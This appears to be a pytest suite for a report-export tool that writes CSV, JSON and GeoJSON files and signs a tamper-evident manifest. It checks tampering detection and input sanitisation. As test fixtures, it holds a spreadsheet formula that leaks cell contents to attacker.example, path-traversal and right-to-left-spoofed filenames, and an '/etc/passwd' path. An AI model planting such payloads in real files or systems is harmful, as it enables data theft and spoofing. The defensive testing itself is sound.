"""Report export for chain of custody: the formats, the signed manifest, and
every way of tampering with the folder afterwards."""

from __future__ import annotations

import base64
import csv
import dataclasses
import hashlib
import json
import os
import re
import shutil
import tempfile
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, BinaryIO

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from shoal import crypto, org
from shoal.desk._export import (
    ExportError,
    ExportFile,
    ExportReport,
    ManifestError,
    export_reports,
    verify_manifest,
)
from shoal.desk._export_cli import verify_manifest_command
from shoal.desk.errors import DeskError

NOW = datetime(2024, 5, 2, 9, 30, tzinfo=UTC)
KEY = crypto.SigningKey(bytes(range(32)))
EVIL = "../../evil<script>.html"
RTL = "\u202egpj.exe"  # reads as "exe.jpg" in a right-to-left override
HYPERLINK = '=HYPERLINK("https://attacker.example/?leak="&A1,"Details")'


def writer(data: bytes) -> Callable[[BinaryIO], None]:
    def write(out: BinaryIO) -> None:
        for start in range(0, len(data), 65536):
            out.write(data[start : start + 65536])

    return write


def attach(item_id: str, name: str, data: bytes) -> ExportFile:
    return ExportFile(item_id, name, len(data), writer(data))


def report(item_id: str, **fields: Any) -> ExportReport:
    defaults: dict[str, Any] = {
        "compartment": "cmp-1",
        "day": "2024-05-01",
        "kind": "message",
        "time": None,
        "text": "",
        "standing": "vouched for by the server only",
        "contact": None,
        "reliability": None,
        "credibility": None,
        "tags": (),
        "place": None,
        "files": (),
    }
    return ExportReport(item_id, **(defaults | fields))


PHOTO, NOTE = os.urandom(300_000), b"a note\n"
REPORTS = (
    report(
        "r1",
        time="2024-05-01T06:10:00+03:00",
        text="Convoy of 12 trucks crossing the bridge, heading south.",
        standing=f"signed by handler h-{'a' * 8}",
        contact="Heron",
        reliability="B",
        credibility="2",
        tags=("convoy", "bridge"),
        place=(-33.8688, 151.2093),
    ),
    report(
        "r2",
        kind="forward",
        text="Two documents attached.",
        files=(attach("f2a", EVIL, PHOTO), attach("f2b", RTL, NOTE)),
    ),
    report("r3", text=HYPERLINK, tags=("-urgent",), reliability="F", credibility="6"),
)


@pytest.fixture
def exported(tmp_path: Path) -> Path:
    target = tmp_path / "out" / "export"
    manifest = export_reports(REPORTS, target, key=KEY, now=NOW)
    assert manifest == target / "manifest.txt"
    return target


def files_in(target: Path) -> list[str]:
    return sorted(p.relative_to(target).as_posix() for p in target.rglob("*"))


def read_csv(target: Path) -> list[dict[str, str]]:
    with (target / "reports.csv").open(encoding="utf-8", newline="") as src:
        return list(csv.DictReader(src))


def unguard(cell: str) -> str:
    return cell.removeprefix("'")


# The round trip ------------------------------------------------------------


def test_round_trip_writes_every_format_and_verifies(exported: Path) -> None:
    assert files_in(exported) == [
        "files",
        "files/f2a-evil_script_.html",
        "files/f2b-gpj.exe",
        "manifest.txt",
        "reports.csv",
        "reports.geojson",
        "reports.json",
    ]
    assert (exported / "files/f2a-evil_script_.html").read_bytes() == PHOTO
    assert (exported / "files/f2b-gpj.exe").read_bytes() == NOTE
    assert not list(exported.parent.parent.rglob("evil*"))

    verified = verify_manifest(exported)

    assert verified.handler_id == org.handler_id_for(KEY.verify_key)
    assert verified.files == 5
    assert verified.time == NOW.isoformat()
    assert crypto.NoteVerifier.parse(verified.verify_key).key == KEY.verify_key
    assert verify_manifest(exported, handler_key=KEY.verify_key) == verified


def test_export_is_private(exported: Path) -> None:
    for path in [exported, *exported.rglob("*")]:
        assert path.stat().st_mode & 0o077 == 0, path


def test_json_holds_every_field_and_each_file_hash(exported: Path) -> None:
    document = json.loads((exported / "reports.json").read_bytes())
    assert document["shoal-export"] == 1
    assert document["exported"] == NOW.isoformat()
    assert document["handler"] == org.handler_id_for(KEY.verify_key)
    first, second, _ = document["reports"]
    assert first == {
        "item_id": "r1",
        "compartment": "cmp-1",
        "day": "2024-05-01",
        "kind": "message",
        "time": "2024-05-01T06:10:00+03:00",
        "text": REPORTS[0].text,
        "standing": REPORTS[0].standing,
        "contact": "Heron",
        "reliability": "B",
        "credibility": "2",
        "tags": ["convoy", "bridge"],
        "place": {"lat": -33.8688, "lon": 151.2093},
        "files": [],
    }
    assert second["place"] is None
    assert second["files"] == [
        {
            "name": "evil_script_.html",
            "path": "files/f2a-evil_script_.html",
            "size": len(PHOTO),
            "sha256": hashlib.sha256(PHOTO).hexdigest(),
        },
        {
            "name": "gpj.exe",
            "path": "files/f2b-gpj.exe",
            "size": len(NOTE),
            "sha256": hashlib.sha256(NOTE).hexdigest(),
        },
    ]


def test_manifest_lists_every_file_sorted_with_its_hash(exported: Path) -> None:
    text = (exported / "manifest.txt").read_text(encoding="utf-8")
    body, _, signature = text.partition("\n\n")
    lines = body.split("\n")
    assert lines[:2] == [
        "shoal export manifest v1",
        f"handler {org.handler_id_for(KEY.verify_key)}",
    ]
    assert lines[3:5] == [f"time {NOW.isoformat()}", "files 5"]
    listed = [line.split(" ", 2) for line in lines[5:]]
    assert [path for _, _, path in listed] == sorted(
        ["reports.json", "reports.csv", "reports.geojson", *(
            f"files/{n}" for n in ("f2a-evil_script_.html", "f2b-gpj.exe")
        )]
    )  # fmt: skip
    for digest, size, path in listed:
        data = (exported / path).read_bytes()
        assert (digest, int(size)) == (hashlib.sha256(data).hexdigest(), len(data))
    assert signature.startswith(f"\u2014 shoal-export-{org.handler_id_for(KEY.verify_key)} ")


def test_geojson_has_only_the_placed_report_longitude_first(exported: Path) -> None:
    collection = json.loads((exported / "reports.geojson").read_bytes())
    assert collection["type"] == "FeatureCollection"
    [feature] = collection["features"]
    assert feature["geometry"] == {"type": "Point", "coordinates": [151.2093, -33.8688]}
    assert feature["properties"] == {
        "id": "r1",
        "day": "2024-05-01",
        "time": "2024-05-01T06:10:00+03:00",
        "kind": "message",
        "reliability": "B",
        "credibility": "2",
        "tags": ["convoy", "bridge"],
        "text": REPORTS[0].text,
    }


def test_geojson_is_written_with_no_feature(tmp_path: Path) -> None:
    export_reports([report("r9")], tmp_path / "x", key=KEY, now=NOW)
    collection = json.loads((tmp_path / "x" / "reports.geojson").read_bytes())
    assert collection == {"type": "FeatureCollection", "features": []}
    assert not (tmp_path / "x" / "files").exists()
    assert verify_manifest(tmp_path / "x").files == 3


def test_csv_disarms_formulas_but_keeps_numbers(exported: Path) -> None:
    raw = (exported / "reports.csv").read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    assert raw.startswith(b"id,compartment,day,time,kind,contact,reliability,credibility,tags,")
    first, second, third = read_csv(exported)
    assert third["text"] == "'" + HYPERLINK
    assert third["tags"] == "'-urgent"
    assert (first["lat"], first["lon"]) == ("-33.8688", "151.2093")
    assert first["tags"] == "convoy;bridge"
    assert second["files"] == "files/f2a-evil_script_.html;files/f2b-gpj.exe"
    assert second["lat"] == second["time"] == second["contact"] == ""


# Tampering -----------------------------------------------------------------


def flip_a_byte(target: Path) -> None:
    path = target / "files/f2a-evil_script_.html"
    data = bytearray(path.read_bytes())
    data[1000] ^= 1
    path.write_bytes(bytes(data))


def resign(target: Path, key: crypto.SigningKey, *, keep_key_line: bool) -> None:
    """The manifest's text signed again with ``key``."""
    path = target / "manifest.txt"
    text = path.read_text(encoding="utf-8").partition("\n\n")[0] + "\n"
    signer = crypto.NoteSigner(f"shoal-export-{org.handler_id_for(key.verify_key)}", key)
    if not keep_key_line:
        lines = text.split("\n")
        lines[1] = f"handler {org.handler_id_for(key.verify_key)}"
        lines[2] = f"key {signer.verifier}"
        text = "\n".join(lines)
    path.write_text(crypto.sign_note(text, [signer]), encoding="utf-8")


TAMPERING: dict[str, tuple[Callable[[Path], object], str]] = {
    "a byte of a file": (flip_a_byte, r"f2a-evil_script_\.html: changed \(its SHA-256"),
    "a file cut short": (
        lambda t: (t / "files/f2b-gpj.exe").write_bytes(NOTE[:-1]),
        r"f2b-gpj\.exe: changed \(6 bytes, 7 listed\)",
    ),
    "a file deleted": (lambda t: (t / "reports.csv").unlink(), r"reports\.csv: missing"),
    "a file added": (
        lambda t: (t / "files" / "extra.txt").write_bytes(b"x"),
        r"files/extra\.txt: not listed",
    ),
    "a folder added": (lambda t: (t / "more").mkdir(), r"more: not listed"),
    "a file made a link": (
        lambda t: (
            (t / "reports.json").rename(t.parent / "elsewhere.json"),
            (t / "reports.json").symlink_to(t.parent / "elsewhere.json"),
        ),
        r"reports\.json: not a regular file",
    ),
    "the manifest text edited": (
        lambda t: (t / "manifest.txt").write_bytes(
            (t / "manifest.txt").read_bytes().replace(b"files 5", b"files 4")
        ),
        "bad signature",
    ),
    "the manifest signed with another key": (
        lambda t: resign(t, crypto.SigningKey.generate(), keep_key_line=True),
        "bad signature",
    ),
    "the manifest deleted": (lambda t: (t / "manifest.txt").unlink(), "no manifest.txt"),
}


@pytest.mark.parametrize("how", list(TAMPERING))
def test_tampering_is_caught(exported: Path, how: str) -> None:
    tamper, message = TAMPERING[how]
    tamper(exported)
    with pytest.raises(ManifestError, match=message):
        verify_manifest(exported)


def test_a_manifest_signed_anew_by_another_key_verifies_only_as_theirs(exported: Path) -> None:
    other = crypto.SigningKey.generate()
    flip_a_byte(exported)
    (exported / "files/f2a-evil_script_.html").write_bytes(PHOTO)
    resign(exported, other, keep_key_line=False)

    assert verify_manifest(exported).handler_id == org.handler_id_for(other.verify_key)
    with pytest.raises(ManifestError, match="not by the pinned handler"):
        verify_manifest(exported, handler_key=KEY.verify_key)


def test_pinning_another_handler_key_is_refused(exported: Path) -> None:
    other = crypto.SigningKey.generate().verify_key
    with pytest.raises(ManifestError, match=f"pinned handler {org.handler_id_for(other)}"):
        verify_manifest(exported, handler_key=other)


def signed_listing(lines: list[str]) -> str:
    handler = org.handler_id_for(KEY.verify_key)
    signer = crypto.NoteSigner(f"shoal-export-{handler}", KEY)
    header = [
        "shoal export manifest v1",
        f"handler {handler}",
        f"key {signer.verifier}",
        f"time {NOW.isoformat()}",
        f"files {len(lines)}",
    ]
    return crypto.sign_note("\n".join([*header, *lines]) + "\n", [signer])


@pytest.mark.parametrize(
    "path",
    ["/etc/passwd", "../outside", "files/../../outside", "files\\x", "files//x", "./x", "x/"],
)
def test_a_signed_manifest_listing_a_path_out_of_the_folder_is_refused(
    tmp_path: Path, path: str
) -> None:
    (tmp_path / "manifest.txt").write_text(
        signed_listing([f"{hashlib.sha256(b'').hexdigest()} 0 {path}"]), encoding="utf-8"
    )
    with pytest.raises(ManifestError, match="signed but malformed"):
        verify_manifest(tmp_path)


def test_a_signed_manifest_out_of_order_is_refused(tmp_path: Path) -> None:
    empty = hashlib.sha256(b"").hexdigest()
    for name in ("a", "b"):
        (tmp_path / name).write_bytes(b"")
    (tmp_path / "manifest.txt").write_text(
        signed_listing([f"{empty} 0 b", f"{empty} 0 a"]), encoding="utf-8"
    )
    with pytest.raises(ManifestError, match="signed but malformed"):
        verify_manifest(tmp_path)
    (tmp_path / "manifest.txt").write_text(
        signed_listing([f"{empty} 0 a", f"{empty} 0 b"]), encoding="utf-8"
    )
    assert verify_manifest(tmp_path).files == 2


def test_a_name_planted_in_the_folder_is_shown_harmlessly(exported: Path) -> None:
    (exported / "\x1b[2Jhello").write_bytes(b"")
    with pytest.raises(ManifestError) as caught:
        verify_manifest(exported)
    assert "\x1b" not in str(caught.value)
    assert "\ufffd[2Jhello: not listed" in str(caught.value)


# Refusals and failures while writing ---------------------------------------


def test_a_non_empty_target_is_refused_untouched(tmp_path: Path) -> None:
    (tmp_path / "keep.txt").write_bytes(b"mine")
    with pytest.raises(ExportError, match="not empty"):
        export_reports(REPORTS, tmp_path, key=KEY, now=NOW)
    assert files_in(tmp_path) == ["keep.txt"]


def test_a_file_as_target_is_refused(tmp_path: Path) -> None:
    (tmp_path / "x").write_bytes(b"")
    with pytest.raises(ExportError, match="not a folder"):
        export_reports(REPORTS, tmp_path / "x", key=KEY, now=NOW)


def test_an_empty_existing_target_is_used(tmp_path: Path) -> None:
    export_reports(REPORTS, tmp_path, key=KEY, now=NOW)
    assert verify_manifest(tmp_path).files == 5


def test_a_failure_while_writing_leaves_the_folder_empty(tmp_path: Path) -> None:
    def broken(out: BinaryIO) -> None:
        out.write(b"x" * 100_000)
        raise DeskError("item f3: cannot be decrypted")

    reports = [*REPORTS, report("r4", files=(ExportFile("f3", "a.bin", 100_000, broken),))]
    with pytest.raises(DeskError, match="cannot be decrypted"):
        export_reports(reports, tmp_path / "x", key=KEY, now=NOW)
    assert files_in(tmp_path / "x") == []


def test_a_file_of_another_size_than_declared_is_refused(tmp_path: Path) -> None:
    lying = ExportFile("f3", "a.bin", 10, writer(b"12345678901"))
    with pytest.raises(ExportError, match="11 bytes written, 10 expected"):
        export_reports([report("r4", files=(lying,))], tmp_path / "x", key=KEY, now=NOW)
    assert files_in(tmp_path / "x") == []


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"item_id": "../r1"}, "malformed report id"),
        ({"files": (attach("../f", "a", b""),)}, "malformed file id"),
        ({"day": "1 May"}, "YYYY-MM-DD"),
        ({"reliability": "G"}, "reliability"),
        ({"credibility": "0"}, "credibility"),
        ({"place": (float("nan"), 0.0)}, "latitude and longitude"),
        ({"place": (12.0, 181.0)}, "latitude and longitude"),
    ],
)
def test_bad_fields_are_refused_before_anything_is_written(
    tmp_path: Path, change: dict[str, Any], message: str
) -> None:
    bad = dataclasses.replace(REPORTS[0], **change)
    with pytest.raises(ExportError, match=message):
        export_reports([*REPORTS, bad], tmp_path / "x", key=KEY, now=NOW)
    assert not (tmp_path / "x").exists()


def test_a_naive_time_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="time zone"):
        export_reports(REPORTS, tmp_path / "x", key=KEY, now=datetime(2024, 5, 2))


def test_names_are_unique_whatever_their_case_and_fit_a_filesystem(tmp_path: Path) -> None:
    long_name = "Звіт" * 30 + ".pdf"  # 120 characters, 244 bytes
    files = (
        attach("f1", "Photo.JPG", b"1"),
        attach("f1", "photo.jpg", b"2"),
        attach("f1", "../photo.jpg", b"3"),
        attach("f1", "a;b.txt", b"4"),
        attach("f1", long_name, b"5"),
    )
    export_reports([report("r1", files=files)], tmp_path / "x", key=KEY, now=NOW)
    names = sorted(p.name for p in (tmp_path / "x" / "files").iterdir())
    assert names[:4] == ["f1-2-photo.jpg", "f1-3-photo.jpg", "f1-Photo.JPG", "f1-a_b.txt"]
    assert names[4].startswith("f1-Звіт") and names[4].endswith(".pdf")
    assert len(names[4].encode()) <= 200
    assert verify_manifest(tmp_path / "x").files == 8


# The command ---------------------------------------------------------------


def test_the_command_reports_a_verified_folder(exported: Path) -> None:
    result = CliRunner().invoke(verify_manifest_command, [str(exported)])
    assert result.exit_code == 0, result.output
    handler = org.handler_id_for(KEY.verify_key)
    assert result.output == (
        f"Manifest verified: 5 files, signed by handler {handler} at {NOW.isoformat()}.\n"
    )


def test_the_command_pins_a_key_in_either_spelling(exported: Path) -> None:
    vkey = verify_manifest(exported).verify_key
    enrollment_form = base64.b64encode(KEY.verify_key.public_bytes).decode()
    for pinned in (vkey, enrollment_form):
        result = CliRunner().invoke(
            verify_manifest_command, [str(exported), "--handler-key", pinned]
        )
        assert result.exit_code == 0, result.output


def test_the_command_fails_on_tampering_with_the_reason(exported: Path) -> None:
    flip_a_byte(exported)
    result = CliRunner().invoke(verify_manifest_command, [str(exported)])
    assert result.exit_code == 1
    assert "Error: files/f2a-evil_script_.html: changed" in result.output
    assert "verified" not in result.output


def test_the_command_fails_for_another_pinned_key(exported: Path) -> None:
    other = base64.b64encode(crypto.SigningKey.generate().verify_key.public_bytes).decode()
    result = CliRunner().invoke(verify_manifest_command, [str(exported), "--handler-key", other])
    assert result.exit_code == 1
    assert "not by the pinned handler" in result.output


def test_the_command_refuses_a_malformed_key(exported: Path) -> None:
    result = CliRunner().invoke(verify_manifest_command, [str(exported), "--handler-key", "nope"])
    assert result.exit_code == 2
    assert "not a handler's key" in result.output


# Properties ----------------------------------------------------------------

#: Two lone surrogates that JSON would read back as one character: no JSON
#: parser (the source of every such text) leaves them apart.
_PAIR = re.compile("[\ud800-\udbff][\udc00-\udfff]")
surrogate = st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF, exclude_categories=())
any_text = st.text(st.characters() | surrogate).filter(lambda t: not _PAIR.search(t))
unicode_text = st.text()  # no surrogates: CSV, being UTF-8, cannot carry them
csv_tag = st.text(min_size=1).filter(lambda t: ";" not in t)


@settings(deadline=None)
@given(text=any_text, tags=st.lists(any_text, max_size=4))
def test_any_text_and_tags_survive_json_exactly(text: str, tags: list[str]) -> None:
    with tempfile.TemporaryDirectory() as folder:
        target = Path(folder) / "x"
        export_reports([report("r1", text=text, tags=tuple(tags))], target, key=KEY, now=NOW)
        [exported] = json.loads((target / "reports.json").read_bytes())["reports"]
    assert (exported["text"], exported["tags"]) == (text, tags)


def test_a_lone_surrogate_is_exact_in_json_and_replaced_in_csv(tmp_path: Path) -> None:
    export_reports([report("r1", text="a\ud800b")], tmp_path / "x", key=KEY, now=NOW)
    raw = (tmp_path / "x" / "reports.json").read_bytes()
    assert b'"a\\ud800b"' in raw
    assert json.loads(raw)["reports"][0]["text"] == "a\ud800b"
    assert read_csv(tmp_path / "x")[0]["text"] == "a?b"


@settings(deadline=None)
@given(text=unicode_text, tags=st.lists(csv_tag, max_size=4))
def test_any_text_and_tags_survive_csv_after_the_guard(text: str, tags: list[str]) -> None:
    with tempfile.TemporaryDirectory() as folder:
        target = Path(folder) / "x"
        export_reports([report("r1", text=text, tags=tuple(tags))], target, key=KEY, now=NOW)
        [row] = read_csv(target)
        shutil.rmtree(target)
    assert unguard(row["text"]) == text
    cell = unguard(row["tags"])
    assert (cell.split(";") if cell else []) == tags
    for value in row.values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_a_folder_that_cannot_be_listed_is_not_skipped(
    exported: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # As root (in a container) no folder is unreadable: os.walk reports one
    # as it would to anyone else, through onerror, which it otherwise ignores.
    real_walk = os.walk

    def walk(top: Path, onerror: Callable[[OSError], None]) -> Any:
        onerror(PermissionError(13, "Permission denied", str(top / "hidden")))
        return real_walk(top, onerror=onerror)

    monkeypatch.setattr(os, "walk", walk)
    with pytest.raises(ManifestError, match="hidden: cannot be read"):
        verify_manifest(exported)
